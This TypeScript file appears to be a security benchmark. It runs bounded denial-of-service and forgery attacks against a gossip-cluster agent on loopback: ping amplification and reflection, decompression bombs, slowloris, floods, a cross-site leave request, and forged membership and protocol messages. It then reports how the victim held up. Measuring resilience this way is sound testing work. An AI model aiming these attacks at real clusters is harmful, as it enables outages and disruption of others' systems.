/**
 * The attacks of issue 11 as the bench runs them against a cluster's victim (its first agent):
 * each bounded in count and time, each saying what it achieved in a few words. Amplification is
 * counted where the victim's answers arrive: on a UDP socket of the attacker's (or of a reflector
 * the attacker named), the same way for Serf, which counts no bytes, as for hearsay.
 */
import dgram from 'node:dgram';
import net from 'node:net';
import { requestJson } from 'hearsay-agent/scripting';
import { LOOPBACK, sleep } from './bench-processes.js';
import {
  forgedDead,
  forgedLamportEvent,
  forgedProtocolSwitch,
  forgedPushPull,
  lzwBombStream,
  largeStream,
  metaChange,
  nestedIndirectPings,
  nestedPings,
  nulNameQuery,
} from './attack-packets.js';
import { QUERY_NAME, type AttackAgent, type AttackCluster } from './attack-systems.js';
import { residentBytes } from './proc-stats.js';

/** How hard each attack hits; `small` keeps the smoke test quick. */
export interface AttackScale {
  readonly streams: number;
  readonly streamBytes: number;
  readonly bombs: number;
  readonly bombBytes: number;
  readonly idleConnections: number;
  readonly idleMs: number;
  readonly forgedMembers: number;
  readonly floodMs: number;
  readonly floodPerSecond: number;
  readonly sseClients: number;
  readonly sseBurst: number;
}

export const FULL_SCALE: AttackScale = {
  streams: 128,
  streamBytes: 19 * 2 ** 20,
  bombs: 128,
  bombBytes: 21 * 2 ** 20,
  idleConnections: 1_000,
  idleMs: 6_000,
  forgedMembers: 100_000,
  floodMs: 10_000,
  floodPerSecond: 20_000,
  sseClients: 100,
  sseBurst: 50_000,
};

export const SMALL_SCALE: AttackScale = {
  streams: 4,
  streamBytes: 2 ** 20,
  bombs: 4,
  bombBytes: 2 * 2 ** 20,
  idleConnections: 20,
  idleMs: 2_000,
  forgedMembers: 500,
  floodMs: 2_000,
  floodPerSecond: 200,
  sseClients: 4,
  sseBurst: 100,
};

export interface AttackOutcome {
  /** Bytes sent because of the attack over bytes the attacker sent (the UDP attacks). */
  readonly amplification?: number;
  /** What happened, in a few words. */
  readonly outcome: string;
  /** The figures behind it, for --json. */
  readonly figures?: Readonly<Record<string, number | string | boolean | null>>;
}

export interface AttackContext {
  readonly cluster: AttackCluster;
  readonly scale: AttackScale;
}

export interface Attack {
  readonly key: string;
  readonly title: string;
  /** Where it applies: Serf has no SSE stream, no HTTP API and no protocol switch. */
  readonly hearsayOnly: boolean;
  /** Its RSS is worth sampling a while after it ends (it makes the victim hold memory). */
  readonly memory: boolean;
  /**
   * Runs against one system at a time: it loads the victim (CPU, bandwidth, memory), so a victim
   * attacked at the same moment on the same cores would measure the other one too. The others
   * (a forged message, then checks) run against every system at once.
   */
  readonly alone: boolean;
  run(context: AttackContext): Promise<AttackOutcome>;
}

const MiB = 2 ** 20;
const mib = (bytes: number): string => `${(bytes / MiB).toFixed(bytes < 10 * MiB ? 1 : 0)} MiB`;
const count = (n: number): string => n.toLocaleString('en-US');

/** A UDP socket on loopback counting what arrives, with a receive buffer big enough for a burst of answers. */
class Listener {
  readonly socket = dgram.createSocket('udp4');
  packets = 0;
  bytes = 0;
  lastAt = 0;

  static async open(): Promise<Listener> {
    const listener = new Listener();
    await new Promise<void>((resolve) => listener.socket.bind(0, LOOPBACK, resolve));
    try {
      listener.socket.setRecvBufferSize(8 * MiB);
    } catch {
      // capped by net.core.rmem_max: counts may then be low under a burst
    }
    listener.socket.on('message', (data) => {
      listener.packets++;
      listener.bytes += data.length;
      listener.lastAt = performance.now();
    });
    return listener;
  }

  get port(): number {
    return this.socket.address().port;
  }

  send(bytes: Uint8Array, port: number): Promise<void> {
    return new Promise((resolve, reject) => this.socket.send(bytes, port, LOOPBACK, (error) => (error ? reject(error) : resolve())));
  }

  /** Waits until nothing has arrived for `quietMs` (at most `maxMs` in all). */
  async quiet(quietMs: number, maxMs: number): Promise<void> {
    const started = performance.now();
    while (performance.now() - started < maxMs) {
      await sleep(100);
      const lastOrStart = Math.max(this.lastAt, started);
      if (performance.now() - lastOrStart >= quietMs) return;
    }
  }

  close(): void {
    this.socket.close();
  }
}

/** A UDP attack from a listener: sends, waits for the answers to stop, and closes. */
async function withListener<T>(use: (listener: Listener) => Promise<T>): Promise<T> {
  const listener = await Listener.open();
  try {
    return await use(listener);
  } finally {
    listener.close();
  }
}

/** Sends the datagrams `make` makes, paced at `perSecond` for `ms`; how many went. */
async function flood(listener: Listener, port: number, make: (i: number) => Uint8Array, perSecond: number, ms: number): Promise<number> {
  const started = performance.now();
  let sent = 0;
  while (performance.now() - started < ms) {
    const due = Math.floor(((performance.now() - started) / 1000) * perSecond);
    for (; sent < due; sent++) listener.socket.send(make(sent), port, LOOPBACK);
    await sleep(10);
  }
  while (listener.socket.getSendQueueCount() > 0) await sleep(10);
  return sent;
}

/** A TCP connection to the victim's gossip port; it resolves once connected (or refused: then null). */
function connectTo(port: number, timeoutMs = 5_000): Promise<net.Socket | null> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: LOOPBACK, port });
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(null);
    }, timeoutMs);
    socket.once('connect', () => {
      clearTimeout(timer);
      resolve(socket);
    });
    socket.once('error', () => {
      clearTimeout(timer);
      resolve(null);
    });
  });
}

interface StreamFate {
  /** Every byte went out (to the kernel) before the victim closed the connection. */
  readonly delivered: boolean;
}

/** Sends `bytes` on its own connection and waits until the victim closes it (at most `timeoutMs`). */
async function sendStream(port: number, bytes: Uint8Array, timeoutMs: number): Promise<StreamFate> {
  const socket = await connectTo(port);
  if (socket === null) return { delivered: false };
  return new Promise((resolve) => {
    let delivered = false;
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ delivered });
    };
    const timer = setTimeout(done, timeoutMs);
    socket.on('error', done);
    socket.on('close', done);
    socket.resume(); // the victim's answer, if it gives one
    socket.write(bytes, (error) => {
      delivered = error === undefined || error === null;
    });
  });
}

/** `n` streams at once; how many went out whole before the victim closed them (or `timeoutMs`). */
async function concurrentStreams(port: number, n: number, bytes: Uint8Array, timeoutMs: number): Promise<number> {
  const fates = await Promise.all(Array.from({ length: n }, () => sendStream(port, bytes, timeoutMs)));
  return fates.filter((fate) => fate.delivered).length;
}

async function pollUntil(check: () => Promise<boolean>, timeoutMs: number, everyMs = 250): Promise<number | null> {
  const started = performance.now();
  for (;;) {
    if (await check().catch(() => false)) return performance.now() - started;
    if (performance.now() - started > timeoutMs) return null;
    await sleep(everyMs);
  }
}

const statusOf = async (cluster: AttackCluster, observer: AttackAgent, name: string): Promise<string | undefined> =>
  (await cluster.system.members(observer, [name])).find((member) => member.name === name)?.status;

/** A port nothing listens on: forged members live there, so that probing them costs nobody else. */
async function deadPort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, LOOPBACK, resolve));
  const port = (server.address() as net.AddressInfo).port;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

function hearsayBase(agent: AttackAgent): string {
  return `http://${LOOPBACK}:${agent.controlPort}`;
}

export const ATTACKS: readonly Attack[] = [
  {
    key: 'nested-compound',
    title: 'nested-compound pings: one datagram of 127 × 127 pings',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster }) {
      const datagram = nestedPings();
      return withListener(async (listener) => {
        await listener.send(datagram, cluster.victim.gossipPort);
        await listener.quiet(1_500, 30_000);
        return {
          amplification: listener.bytes / datagram.length,
          outcome: `${count(listener.packets)} packets (${mib(listener.bytes)}) back for one ${count(datagram.length)}-byte datagram`,
          figures: { sent_bytes: datagram.length, answer_packets: listener.packets, answer_bytes: listener.bytes },
        };
      });
    },
  },
  {
    key: 'indirect-ping-reflection',
    title: 'indirect-ping reflection: one datagram of 127 × 127 indirect pings toward a third address',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster }) {
      return withListener((reflector) =>
        withListener(async (attacker) => {
          const datagram = nestedIndirectPings({ host: LOOPBACK, port: reflector.port });
          await attacker.send(datagram, cluster.victim.gossipPort);
          await reflector.quiet(1_500, 30_000);
          return {
            amplification: reflector.bytes / datagram.length,
            outcome: `${count(reflector.packets)} pings (${mib(reflector.bytes)}) to the third address for one ${count(datagram.length)}-byte datagram`,
            figures: { sent_bytes: datagram.length, reflected_packets: reflector.packets, reflected_bytes: reflector.bytes },
          };
        }),
      );
    },
  },
  {
    key: 'large-streams',
    title: 'concurrent large streams: push/pulls just under the 20 MiB stream limit',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const delivered = await concurrentStreams(cluster.victim.gossipPort, scale.streams, largeStream(scale.streamBytes), 30_000);
      return {
        outcome: `${delivered}/${scale.streams} streams of ${mib(scale.streamBytes)} sent whole, ${scale.streams - delivered} cut off by the victim`,
        figures: { streams: scale.streams, stream_bytes: scale.streamBytes, delivered },
      };
    },
  },
  {
    key: 'lzw-bombs',
    title: 'concurrent LZW bombs: compressed streams expanding past the limit',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const bomb = lzwBombStream(scale.bombBytes);
      // The peak comes while they expand; what stays is read `--settle` later.
      const delivered = await concurrentStreams(cluster.victim.gossipPort, scale.bombs, bomb, 10_000);
      return {
        outcome: `${scale.bombs} bombs of ${count(Math.round(bomb.length / 1024))} KiB expanding to ${mib(scale.bombBytes)}; ${delivered} sent whole`,
        figures: { bombs: scale.bombs, bomb_bytes: bomb.length, expands_to: scale.bombBytes, delivered },
      };
    },
  },
  {
    key: 'slowloris',
    title: 'slowloris: idle connections on the gossip port, joins meanwhile',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster, scale }) {
      const victim = cluster.victim;
      const sockets: net.Socket[] = [];
      try {
        for (let opened = 0; opened < scale.idleConnections; opened += 50) {
          const batch = Math.min(50, scale.idleConnections - opened);
          const connected = await Promise.all(Array.from({ length: batch }, () => connectTo(victim.gossipPort, 2_000)));
          for (const socket of connected) if (socket) sockets.push(socket.on('error', () => undefined));
        }
        const accepted = sockets.length;
        const attempts = 3;
        const failures: string[] = [];
        const started = performance.now();
        for (let i = 0; i < attempts; i++) {
          const failure = await cluster.system.join(cluster.agents[1]!, `${LOOPBACK}:${victim.gossipPort}`);
          if (failure !== null) failures.push(failure);
          await sleep(Math.max(0, ((i + 1) * scale.idleMs) / attempts - (performance.now() - started)));
        }
        const stillOpen = sockets.filter((socket) => !socket.destroyed).length;
        const joins = `${attempts - failures.length}/${attempts} joins succeeded`;
        return {
          outcome: `${joins} with ${count(accepted)} idle connections (${count(stillOpen)} open at the end)${failures[0] ? `; ${failures[0]}` : ''}`,
          figures: { idle_connections: accepted, still_open: stillOpen, joins: attempts, joins_failed: failures.length },
        };
      } finally {
        for (const socket of sockets) socket.destroy();
      }
    },
  },
  {
    key: 'meta-flood',
    title: 'meta-change flood: alive updates changing one member’s tags, from one source',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const pid = cluster.victim.process.pid;
      const port = await deadPort();
      const before = residentBytes(pid);
      const sent = await withListener((listener) =>
        flood(listener, cluster.victim.gossipPort, (i) => metaChange('flooder', i + 1, port), scale.floodPerSecond, scale.floodMs),
      );
      const growth = (residentBytes(pid) - before) / MiB / (scale.floodMs / 1000);
      return {
        outcome: `RSS ${growth >= 0 ? '+' : ''}${growth.toFixed(1)} MiB/s over ${scale.floodMs / 1000} s (${count(sent)} updates)`,
        figures: { updates: sent, rss_growth_mib_per_s: growth },
      };
    },
  },
  {
    key: 'sse-clients',
    title: 'SSE clients that never read, and a forged push/pull of 50,000 members',
    hearsayOnly: true,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const victim = cluster.victim;
      const clients: net.Socket[] = [];
      try {
        for (let i = 0; i < scale.sseClients; i++) {
          const socket = await connectTo(victim.controlPort);
          if (!socket) continue;
          socket.on('error', () => undefined);
          socket.write(`GET /v1/events HTTP/1.1\r\nHost: ${LOOPBACK}:${victim.controlPort}\r\nAccept: text/event-stream\r\n\r\n`);
          socket.pause(); // and never read
          clients.push(socket);
        }
        await sendStream(victim.gossipPort, forgedPushPull(scale.sseBurst, await deadPort(), 'sse-forged'), 10_000);
        await sleep(10_000);
        // Read at last: a client the agent dropped ends once what was buffered for it is read.
        const ended = clients.map(
          (socket) =>
            new Promise<boolean>((resolve) => {
              socket.once('end', () => resolve(true)).once('close', () => resolve(true));
              setTimeout(() => resolve(socket.destroyed), 2_000);
              socket.resume();
            }),
        );
        const dropped = (await Promise.all(ended)).filter(Boolean).length;
        return {
          outcome: `${scale.sseClients} clients, ${count(scale.sseBurst)} forged members: ${dropped} clients dropped by the agent`,
          figures: { clients: scale.sseClients, forged_members: scale.sseBurst, clients_dropped: dropped },
        };
      } finally {
        for (const socket of clients) socket.destroy();
      }
    },
  },
  {
    key: 'nul-name-query',
    title: 'query from a member whose name holds a NUL byte, to an agent with a query handler',
    hearsayOnly: false,
    memory: false,
    alone: false,
    async run({ cluster }) {
      const victim = cluster.victim;
      return withListener(async (listener) => {
        await listener.send(nulNameQuery(QUERY_NAME, listener.port, 3), victim.gossipPort);
        await listener.quiet(2_000, 6_000);
        const up = !victim.process.hasExited() && (await cluster.system.answers(victim, 3_000));
        return {
          outcome: `${up ? 'still up' : 'DOWN'}; ${listener.packets > 0 ? `answered (${listener.packets} packets back)` : 'no answer'}`,
          figures: { up, answer_packets: listener.packets },
        };
      });
    },
  },
  {
    key: 'cross-site-leave',
    title: 'cross-site POST /v1/leave (text/plain, foreign Origin), as any web page can send',
    hearsayOnly: true,
    memory: false,
    alone: false,
    async run({ cluster }) {
      const victim = cluster.victim;
      let status: number | string;
      try {
        const response = await fetch(`${hearsayBase(victim)}/v1/leave`, {
          method: 'POST',
          headers: { 'content-type': 'text/plain', origin: 'http://attacker.example' },
          body: 'x',
          signal: AbortSignal.timeout(5_000),
        });
        status = response.status;
      } catch (error) {
        status = (error as Error).message;
      }
      await sleep(3_000);
      const up = !victim.process.hasExited() && (await cluster.system.answers(victim, 3_000));
      const answer = typeof status === 'number' ? `HTTP ${status}` : status;
      return { outcome: `answered ${answer}; ${up ? 'still up' : 'the agent left and stopped'}`, figures: { status, up } };
    },
  },
  {
    key: 'forged-dead-max',
    title: 'forged `dead` of a member at incarnation 4294967295',
    hearsayOnly: false,
    memory: false,
    alone: false,
    async run({ cluster }) {
      const victim = cluster.victim;
      const member = cluster.agents[2]!;
      await withListener((listener) => listener.send(forgedDead(member.name), victim.gossipPort));
      const listedAs = await pollUntil(async () => (await statusOf(cluster, victim, member.name)) !== 'alive', 3_000, 100);
      const alive = async () => (await statusOf(cluster, victim, member.name)) === 'alive';
      const back = await pollUntil(alive, 10_000);
      if (back !== null) {
        const outcome = listedAs === null ? 'ignored' : `listed not alive, back by itself after ${(back / 1000).toFixed(1)} s`;
        return { outcome, figures: { comes_back: true, operator_join: false } };
      }
      const joinFailure = await cluster.system.join(victim, `${LOOPBACK}:${member.gossipPort}`);
      const afterJoin = await pollUntil(alive, 5_000);
      return {
        outcome:
          afterJoin !== null
            ? 'back only after an operator join'
            : `gone for good (an operator join: ${joinFailure ?? 'succeeded, member still not listed alive'})`,
        figures: { comes_back: afterJoin !== null, operator_join: true },
      };
    },
  },
  {
    key: 'forged-protocol-switch',
    title: 'forged protocol switch at epoch 2^32 − 1, then the operator switches back',
    hearsayOnly: true,
    memory: false,
    alone: false,
    async run({ cluster }) {
      const victim = cluster.victim;
      const protocolOf = async (agent: AttackAgent) =>
        ((await requestJson(hearsayBase(agent), '/v1/protocol', { timeoutMs: 3_000 })) as { protocol: string }).protocol;
      await withListener((listener) => listener.send(forgedProtocolSwitch(), victim.gossipPort));
      const switched = await pollUntil(async () => (await protocolOf(victim)) === 'heartbeat', 5_000);
      let failure: string | null = null;
      try {
        await requestJson(hearsayBase(cluster.agents[1]!), '/v1/protocol', { method: 'PUT', body: { protocol: 'swim' }, timeoutMs: 5_000 });
      } catch (error) {
        failure = (error as Error).message.slice(0, 160);
      }
      const back = await pollUntil(async () => (await Promise.all(cluster.agents.map(protocolOf))).every((p) => p === 'swim'), 10_000);
      const forged = switched === null ? 'forged switch not taken' : 'the cluster switched to heartbeat';
      const operator = back !== null ? 'the operator switched it back' : `the operator could NOT switch back${failure ? ` (${failure})` : ''}`;
      return { outcome: `${forged}; ${operator}`, figures: { forged_switch_taken: switched !== null, switched_back: back !== null } };
    },
  },
  {
    key: 'forged-lamport-max',
    title: 'forged Serf user event at Lamport time 2^64 − 1, then an operator event',
    hearsayOnly: false,
    memory: false,
    alone: false,
    async run({ cluster }) {
      await withListener((listener) => listener.send(forgedLamportEvent(), cluster.victim.gossipPort));
      await sleep(2_000);
      const failures = await Promise.all(cluster.agents.map((agent) => cluster.system.event(agent)));
      const failed = failures.filter((failure) => failure !== null);
      return {
        outcome:
          failed.length === 0
            ? 'operator events still work on every agent'
            : `operator events fail on ${failed.length}/${failures.length} agents: ${failed[0]}`,
        figures: { event_failures: failed.length },
      };
    },
  },
  {
    key: 'forged-push-pull',
    title: 'forged push/pull introducing 100,000 members',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const victim = cluster.victim;
      const stream = forgedPushPull(scale.forgedMembers, await deadPort(), 'forged');
      await sendStream(victim.gossipPort, stream, 10_000);
      await sleep(2_000);
      const started = performance.now();
      const answers = await cluster.system.answers(victim, 15_000);
      const latencyMs = performance.now() - started;
      const members = await cluster.system.memberCount(victim).catch(() => null);
      return {
        outcome:
          `${members === null ? 'member count unavailable' : `${count(members)} members after`}; ` +
          `API ${answers ? `answered in ${latencyMs.toFixed(0)} ms` : 'did NOT answer in 15 s'}`,
        figures: { forged: scale.forgedMembers, members_after: members, api_answers: answers, api_latency_ms: latencyMs },
      };
    },
  },
];
